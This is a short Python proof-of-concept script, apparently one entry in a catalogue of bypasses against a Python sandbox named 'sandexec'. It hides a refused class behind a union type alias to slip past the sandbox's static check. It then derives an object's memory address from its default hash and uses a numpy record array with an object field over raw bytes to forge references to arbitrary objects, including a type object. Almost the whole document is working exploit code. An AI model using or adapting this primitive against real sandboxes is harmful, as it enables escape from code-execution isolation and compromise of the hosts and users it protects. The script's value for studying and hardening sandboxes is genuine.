# source: numpy/core/records.py recarray.__new__(shape, dtype, buf): a record dtype with an object field over bytes takes 8 bytes as an object pointer (sandexec README, "The static check",: np.rec.fromstring with dtype=[("o","O")]); CPython: `X | X` of one class is X; object.__hash__ is the rotated address
# family: type alias of a refused class (union collapsing to np.recarray) called with a buffer: address taken as an object
# goal: forge a Python reference from a raw integer address (a reference never handed to the script)
import numpy as np
Rec = np.recarray | np.recarray
M = (1 << 64) - 1
def addr_of(o):
    h = hash(o) & M
    return ((h << 4) | (h >> 60)) & M
secret = object()
a = addr_of(secret)
r = Rec((1,), [("o", object)], np.array([a], dtype=np.int64).tobytes())
got = r.o[0]
print("object rebuilt from raw address", hex(a), "->", got, "same object:", got is secret)
got2 = Rec((1,), [("o", object)], np.array([addr_of(bytearray)], dtype=np.int64).tobytes()).o[0]
print("type object rebuilt from raw address:", got2)
